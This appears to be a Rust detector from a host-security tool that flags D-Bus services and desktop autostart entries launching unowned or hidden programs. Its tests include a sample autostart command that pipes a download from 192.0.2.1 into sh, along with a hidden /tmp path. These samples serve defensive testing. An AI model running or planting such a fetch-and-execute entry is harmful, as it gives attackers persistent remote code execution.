//! The bus of the system or a desktop starts a program of nobody's.
//!
//! # What it sees
//! A service of D-Bus in a file that no package owns, with a program that no package owns (`unusual` where admins keep
//! programs); an entry of a desktop's autostart whose command is damning in itself. On both: programs that hide or that
//! lie where everybody may write.
//!
//! # Why it matters
//! Whoever sends a message to the name starts the service, often as root. Desktops start their entries at every login.
//!
//! # Innocent causes
//! Software that was installed by hand into /usr/local. Entries of a desktop that start ordinary programs are quiet.
//!
//! # What to do
//! Look at the program (`keeneye look file PATH`).

use super::{entry, risk};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/session-start",
    title: "the bus or a desktop starts a program of nobody's",
    level: Level::Suspicious,
    attack: &["T1543", "T1547.013"],
    absolute: false,
    source: include_str!("session_start.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    let services = entry::foreign(scene.world, AutostartKind::Dbus);
    let desktop = entry::foreign(scene.world, AutostartKind::Desktop);
    services.chain(desktop).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let signs = risk::of_entry(scene.world, one);
    let damning = entry::level(scene.world.owner(&one.path), &signs, None);
    let is_service = one.kind == AutostartKind::Dbus;
    let programs = if is_service { entry::of_programs(scene.world, one) } else { None };
    let level = damning.max(programs)?;
    let seen = if is_service { "is started over the bus by whoever calls it" } else { "starts with a desktop" };
    let finding = entry::finding(&DETECTOR, scene, one, level, (seen, &signs));
    Some(finding.innocent("software that was installed by hand", false, "it would lie in /opt or /usr/local"))
}

#[cfg(test)]
mod tests {
    use crate::testing::findings;
    const NAME: &str = "persistence/session-start";

    fn said(path: &str, command: &str) -> Vec<String> {
        let host = format!(
            "package acme 1 owns /usr/bin/acme,/usr/share/dbus-1/system-services/owned.service\n/usr/lib/x : mode=100755\n\
             /usr/local/bin/y : mode=100755\n/tmp/.x/y : mode=100755\n{path} = [x]\\nName=org.x\\nExec={command}\\nUser=root\\n\n"
        );
        findings(NAME, &host, &[])
    }
    const BUS: &str = "/usr/share/dbus-1/system-services/org.x.service";
    const DESKTOP: &str = "/root/.config/autostart/x.desktop";

    #[test]
    fn programs_of_nobody() {
        let text = format!("suspicious: {BUS} line 3 is started over the bus by whoever calls it");
        assert_eq!(said(BUS, "/usr/lib/x --daemon"), [text]);
        assert!(said(BUS, "/usr/local/bin/y")[0].starts_with("unusual: "));
        assert!(said(DESKTOP, "/tmp/.x/y")[0].starts_with("suspicious: "));
        assert!(said(DESKTOP, "sh -c 'curl http://192.0.2.1/x | sh'")[0].starts_with("suspicious: "));
    }
    #[test]
    fn ordinary_programs_are_quiet() {
        assert_eq!(said(BUS, "/usr/bin/acme"), [""; 0]);
        assert_eq!(said(BUS, "/bin/false"), [""; 0]);
        assert_eq!(said("/usr/share/dbus-1/system-services/owned.service", "/usr/lib/x"), [""; 0]);
        assert_eq!(said(DESKTOP, "/usr/lib/x"), [""; 0]);
        crate::testing::check(NAME, "package a 1", &[]);
    }
}
